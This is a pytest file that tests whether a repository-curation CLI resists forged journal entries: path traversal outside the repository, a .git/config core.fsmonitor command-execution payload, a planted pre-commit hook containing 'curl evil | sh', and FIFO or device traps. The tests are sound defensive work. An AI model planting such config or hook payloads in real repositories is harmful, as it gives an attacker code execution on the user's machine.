"""Issue 29's attacks on the repository journal, exactly as a clone ships them: a forged
`<repo>/.curator/journal/00001-fix/` naming a file beside the repository (`../knowledge/…`, the
tier-sibling hole), `.git/config` (code execution through `core.fsmonitor`), a new
`.git/hooks/pre-commit`, or `.curator/lock`. `curator undo --repository` (applied) and the
recovery of an unrelated `curator fix --check instructions.import-broken` (pending) must change
none of them, set the entry aside and say so. A journal naming a FIFO or a device never hangs
a command or reads it. Writes keep a file's mode; a kill between move-aside and link is
recovered — and said — by any command."""

from __future__ import annotations

import json
import os
import stat
import subprocess
import sys
from pathlib import Path

import pytest

from curator.cli import main
from tests.hostile import sha, tree_hash

GIT_CONFIG = b"[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n"
EVIL_CONFIG = b"[core]\n\tfsmonitor = touch /tmp/pwned-by-curator-test\n"






@pytest.fixture
def clone(tmp_path):
    """(repository, victim beside it): a repository with a broken import `curator check`
    suggests fixing, and a tier-sibling folder `knowledge/` beside it holding the user's file."""
    repo = tmp_path / "repo"
    (repo / ".git" / "hooks").mkdir(parents=True)
    (repo / ".git" / "config").write_bytes(GIT_CONFIG)
    (repo / "CLAUDE.md").write_text("# P\n\nSee @docs/guide.md.\n")
    (repo / "guides").mkdir()
    (repo / "guides" / "guide.md").write_text("# Guide\n")
    knowledge = tmp_path / "knowledge"
    knowledge.mkdir()
    victim = knowledge / "victim.md"
    victim.write_bytes(b"# the user's own notes\n")
    return repo, victim


def forge(repo: Path, rel: str, state: str, planted: bytes | None, current: bytes | None) -> Path:
    """A journal entry as an attacker writes it: undoing it (or rolling it back) writes
    `planted` to `rel`; `current` is what `rel` holds now (the digest an entry must match)."""
    entry = repo / ".curator" / "journal" / "00001-fix"
    (entry / "blobs").mkdir(parents=True)
    for data in (planted, current):
        if data is not None:
            (entry / "blobs" / sha(data)).write_bytes(data)
    meta = {"id": "00001-fix", "operation": "fix", "title": "fix 1 instruction finding(s)",
            "created": "2026-11-19T10:00:00+00:00", "state": state,
            "files": [{"path": rel, "before": sha(planted) if planted is not None else None,
                       "after": sha(current) if current is not None else None}], "notes": []}
    (entry / "meta.json").write_text(json.dumps(meta))
    return entry


def run(capsys, *argv):
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_undo_repository_never_writes_a_tier_sibling_beside_the_repository(clone, capsys):
    repo, victim = clone
    forge(repo, "../knowledge/victim.md", "applied", b"planted\n", victim.read_bytes())
    before = tree_hash(victim.parent)
    code, out, err = run(capsys, "undo", "--repository", str(repo))
    assert tree_hash(victim.parent) == before
    assert code == 0 and "Traceback" not in err
    assert "00001-fix" in err and "quarantine" in err  # set aside and said


def test_a_pending_entry_is_not_rolled_back_by_an_unrelated_instruction_fix(clone, capsys):
    repo, victim = clone
    forge(repo, "../knowledge/victim.md", "pending", b"planted\n", victim.read_bytes())
    before = tree_hash(victim.parent)
    code, out, err = run(capsys, "fix", str(repo), "--check", "instructions.import-broken")
    assert tree_hash(victim.parent) == before
    assert "rolled back" not in err and "00001-fix" in err
    assert code == 0 and (repo / "CLAUDE.md").read_text() == "# P\n\nSee @guides/guide.md.\n"  # the user's fix


@pytest.mark.parametrize("state", ["applied", "pending"])
def test_git_config_is_never_replaced(clone, capsys, state):
    repo, _ = clone
    forge(repo, ".git/config", state, EVIL_CONFIG, GIT_CONFIG)
    argv = ["undo", "--repository", str(repo)] if state == "applied" else \
        ["fix", str(repo), "--check", "instructions.import-broken"]
    run(capsys, *argv)
    assert (repo / ".git" / "config").read_bytes() == GIT_CONFIG


def test_no_hook_is_created_and_the_lock_is_not_overwritten(clone, capsys):
    repo, _ = clone
    forge(repo, ".git/hooks/pre-commit", "applied", b"#!/bin/sh\ncurl evil | sh\n", None)
    run(capsys, "undo", "--repository", str(repo))
    assert not (repo / ".git" / "hooks" / "pre-commit").exists()
    assert not (repo / ".curator" / "journal" / "00001-fix").exists()  # set aside in .curator/quarantine
    lock = repo / ".curator" / "lock"
    lock.write_bytes(b"")
    forge(repo, ".curator/lock", "applied", b"not a lock\n", b"")
    run(capsys, "undo", "--repository", str(repo))
    assert lock.read_bytes() == b""


def test_a_journal_naming_a_fifo_never_hangs_and_is_set_aside(clone, tmp_path):
    """An entry whose file is a FIFO: `undo` and a later write end (no hang) and never open it."""
    repo, _ = clone
    os.mkfifo(repo / "AGENTS.md")
    forge(repo, "AGENTS.md", "applied", b"planted\n", b"x\n")
    env = {**os.environ, "CURATOR_NO_REPLAY": "1"}
    for argv in (["undo", "--repository", str(repo)], ["fix", str(repo), "--check", "instructions.import-broken"]):
        done = subprocess.run([sys.executable, "-m", "curator", *argv], capture_output=True, text=True, env=env,
                              timeout=60, check=False)
        assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr
    assert stat.S_ISFIFO(os.lstat(repo / "AGENTS.md").st_mode)


@pytest.mark.skipif(os.geteuid() != 0, reason="making a device node needs root")
def test_a_journal_naming_a_device_never_reads_it(clone):
    repo, _ = clone
    os.mknod(repo / "AGENTS.md", 0o666 | stat.S_IFCHR, os.makedev(1, 5))  # a copy of /dev/zero
    forge(repo, "AGENTS.md", "pending", b"planted\n", b"x\n")
    env = {**os.environ, "CURATOR_NO_REPLAY": "1"}
    done = subprocess.run([sys.executable, "-m", "curator", "fix", str(repo), "--check", "instructions.import-broken"],
                          capture_output=True, text=True, env=env, timeout=60, check=False)
    assert done.returncode in (0, 1, 2) and "Traceback" not in done.stderr
    assert stat.S_ISCHR(os.lstat(repo / "AGENTS.md").st_mode)


# -- modes ------------------------------------------------------------------------------


def test_an_instruction_fix_and_its_undo_keep_the_file_mode(clone, capsys):
    repo, _ = clone
    (repo / "CLAUDE.md").chmod(0o644)
    code, _, _ = run(capsys, "fix", str(repo), "--check", "instructions.import-broken")
    assert code == 0 and "guides/guide.md" in (repo / "CLAUDE.md").read_text()
    assert stat.S_IMODE((repo / "CLAUDE.md").stat().st_mode) == 0o644
    code, _, _ = run(capsys, "undo", "--repository", str(repo))
    assert code == 0 and "docs/guide.md" in (repo / "CLAUDE.md").read_text()
    assert stat.S_IMODE((repo / "CLAUDE.md").stat().st_mode) == 0o644
    (repo / "CLAUDE.md").chmod(0o640)
    run(capsys, "fix", str(repo), "--check", "instructions.import-broken")
    assert stat.S_IMODE((repo / "CLAUDE.md").stat().st_mode) == 0o640


# -- a kill between moving the file aside and linking the new one ----------------------------


def _killed_at_link(repo: str) -> None:
    import signal

    from curator.curation import journal

    def die(*_a):
        os.kill(os.getpid(), signal.SIGKILL)

    journal.link_new = die  # the instruction file is moved aside; the new one never arrives
    main(["fix", repo, "--check", "instructions.import-broken"])
    os._exit(0)


def _kill_mid_fix(repo: Path) -> None:
    import multiprocessing

    child = multiprocessing.get_context("fork").Process(target=_killed_at_link, args=(str(repo),))
    child.start()
    child.join(120)
    assert not (repo / "CLAUDE.md").exists()  # the state the issue found: the file is missing


@pytest.mark.parametrize("command", [["check"], ["context"], ["tokens"]])
def test_a_read_only_command_puts_back_a_file_a_kill_left_aside(clone, capsys, command):
    repo, _ = clone
    original = (repo / "CLAUDE.md").read_bytes()
    _kill_mid_fix(repo)
    code, out, err = run(capsys, *command, str(repo))
    assert (repo / "CLAUDE.md").read_bytes() == original
    assert "CLAUDE.md" in err and "interrupted" in err  # never silent
    assert "Traceback" not in err


def test_undo_says_when_it_recovered(clone, capsys):
    repo, _ = clone
    original = (repo / "CLAUDE.md").read_bytes()
    _kill_mid_fix(repo)
    code, out, err = run(capsys, "undo", "--repository", str(repo))
    assert (repo / "CLAUDE.md").read_bytes() == original
    assert code == 0 and "recovered" in err and "00001-fix" in err
